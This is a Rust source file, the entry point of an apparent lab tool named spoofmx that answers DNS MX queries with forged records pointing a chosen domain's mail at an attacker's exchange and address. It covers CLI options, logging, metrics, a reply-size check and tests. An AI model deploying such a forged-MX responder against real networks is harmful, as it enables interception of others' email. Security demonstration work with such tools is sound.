use clap::{Parser, ValueEnum};
use std::env;
use std::io;
use std::net::{Ipv4Addr, SocketAddr};
use std::process;
use tracing_subscriber::EnvFilter;

use dns_types::protocol::types::DomainName;

use spoofmx::forge::{forged_mx_fit, Fit};
use spoofmx::metrics::serve_prometheus_endpoint_task;
use spoofmx::net::bind_udp;
use spoofmx::server::listen_udp;
use spoofmx::settings::*;

/// Resolves on Ctrl-C, or SIGTERM where there is such a thing.
async fn shutdown_signal() -> io::Result<()> {
    #[cfg(unix)]
    {
        use tokio::signal::unix::{signal, SignalKind};

        let mut terminate = signal(SignalKind::terminate())?;
        tokio::select! {
            res = tokio::signal::ctrl_c() => res,
            _ = terminate.recv() => Ok(()),
        }
    }

    #[cfg(not(unix))]
    {
        tokio::signal::ctrl_c().await
    }
}

#[derive(Debug, Copy, Clone, Eq, PartialEq, ValueEnum)]
enum LogFormat {
    Full,
    Compact,
    Pretty,
    Json,
}

/// `--quiet` wins over `RUST_LOG`, which wins over the default.
fn log_directives(quiet: bool, rust_log: Option<String>) -> String {
    if quiet {
        "warn".to_string()
    } else {
        rust_log.unwrap_or_else(|| "info".to_string())
    }
}

fn begin_logging(format: LogFormat, quiet: bool) {
    let rust_log = env::var(EnvFilter::DEFAULT_ENV).ok();
    let filter = EnvFilter::new(log_directives(quiet, rust_log));

    let subscriber = tracing_subscriber::fmt().with_env_filter(filter);

    match format {
        LogFormat::Full => subscriber.init(),
        LogFormat::Compact => subscriber.compact().init(),
        LogFormat::Pretty => subscriber.pretty().init(),
        LogFormat::Json => subscriber.json().init(),
    }
}

// the doc comments for this struct turn into the CLI help text
#[derive(Debug, Parser)]
/// A DNS responder which forges MX records.
///
/// MX queries for the forged domain are answered with an MX record
/// naming the attacker's mail exchange, and an A record pointing that
/// mail exchange at the attacker's address.  A queries for the
/// attacker's mail exchange are answered with the same address.  Other
/// record types for those two names get an empty answer, and queries
/// for any other name get no answer at all.
///
/// This is a lab tool for demonstrating DNS spoofing against mail
/// delivery.  It is not a nameserver: no TCP, no EDNS, no DNSSEC.
struct Args {
    /// Address to listen on
    #[clap(short, long, default_value_t = Ipv4Addr::UNSPECIFIED, env = "SPOOFMX_IP")]
    ip: Ipv4Addr,

    /// Port to listen on; 53 needs privileges, try 5353 without them
    #[clap(short, long, default_value_t = DEFAULT_PORT, env = "SPOOFMX_PORT")]
    port: u16,

    /// Domain whose MX records to forge
    #[clap(
        short,
        long,
        default_value = DEFAULT_FORGED_DOMAIN,
        value_parser = parse_hostname,
        env = "SPOOFMX_DOMAIN"
    )]
    domain: DomainName,

    /// Address the forged mail exchange resolves to
    #[clap(long, default_value_t = DEFAULT_ATTACKER_IP, env = "SPOOFMX_ATTACKER_IP")]
    attacker_ip: Ipv4Addr,

    /// Hostname of the forged mail exchange
    #[clap(
        long,
        default_value = DEFAULT_ATTACKER_MX,
        value_parser = parse_hostname,
        env = "SPOOFMX_ATTACKER_MX"
    )]
    attacker_mx: DomainName,

    /// TTL of the forged records, in seconds
    #[clap(long, default_value_t = DEFAULT_TTL, env = "SPOOFMX_TTL")]
    ttl: u32,

    /// Preference of the forged MX record
    #[clap(long, default_value_t = DEFAULT_PREFERENCE, env = "SPOOFMX_PREFERENCE")]
    preference: u16,

    /// Only log warnings and errors, not every query; overrides RUST_LOG
    #[clap(short, long, env = "SPOOFMX_QUIET")]
    quiet: bool,

    /// Serve Prometheus metrics on this address (e.g. 127.0.0.1:9420)
    #[clap(long, env = "SPOOFMX_METRICS_ADDRESS")]
    metrics_address: Option<SocketAddr>,

    /// Log output format
    #[clap(long, value_enum, default_value_t = LogFormat::Full, env = "SPOOFMX_LOG_FORMAT")]
    log_format: LogFormat,
}

impl Args {
    fn settings(&self) -> Settings {
        Settings {
            listen_address: self.ip,
            listen_port: self.port,
            forged_domain: self.domain.clone(),
            attacker_mx: self.attacker_mx.clone(),
            attacker_ip: self.attacker_ip,
            ttl: self.ttl,
            preference: self.preference,
        }
    }
}

#[tokio::main]
async fn main() {
    let args = Args::parse();

    begin_logging(args.log_format, args.quiet);

    let settings = args.settings();
    match forged_mx_fit(&settings) {
        Fit::Whole => (),
        Fit::WithoutGlue => tracing::warn!(
            domain = %settings.forged_domain,
            exchange = %settings.attacker_mx,
            "names too long for the glue A record to fit in a reply, sending MX answers without it"
        ),
        Fit::Truncated => {
            tracing::error!(
                domain = %settings.forged_domain,
                exchange = %settings.attacker_mx,
                "names too long for a forged MX answer to fit in 512 octets"
            );
            process::exit(1);
        }
    }

    let address = SocketAddr::from((settings.listen_address, settings.listen_port));

    let socket = match bind_udp(address).await {
        Ok(socket) => socket,
        Err(error) => {
            tracing::error!(%error, "could not bind UDP socket");
            process::exit(1);
        }
    };

    tracing::info!(%address, "listening");
    tracing::info!(
        domain = %settings.forged_domain,
        exchange = %settings.attacker_mx,
        address = %settings.attacker_ip,
        "forging MX"
    );

    if let Some(metrics_address) = args.metrics_address {
        tracing::info!(%metrics_address, "serving metrics");
        tokio::spawn(async move {
            if let Err(error) = serve_prometheus_endpoint_task(metrics_address).await {
                tracing::error!(%error, "could not serve metrics");
            }
        });
    }

    tokio::select! {
        () = listen_udp(settings, socket) => (),
        res = shutdown_signal() => {
            if let Err(error) = res {
                tracing::error!(%error, "could not listen for shutdown signal");
                process::exit(1);
            }
            tracing::info!("shutting down");
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quiet_overrides_rust_log() {
        assert_eq!("warn", log_directives(true, Some("debug".to_string())));
        assert_eq!("warn", log_directives(true, None));
    }

    #[test]
    fn rust_log_overrides_default() {
        assert_eq!(
            "spoofmx=trace",
            log_directives(false, Some("spoofmx=trace".to_string()))
        );
        assert_eq!("info", log_directives(false, None));
    }

    #[test]
    fn overlong_names_are_refused_at_startup() {
        let domain = vec!["a".repeat(62); 4].join(".");
        let attacker_mx = vec!["b".repeat(62); 4].join(".");
        let args = Args::parse_from([
            "spoofmx",
            "--domain",
            domain.as_str(),
            "--attacker-mx",
            attacker_mx.as_str(),
        ]);

        assert_eq!(Fit::Truncated, forged_mx_fit(&args.settings()));
    }
}
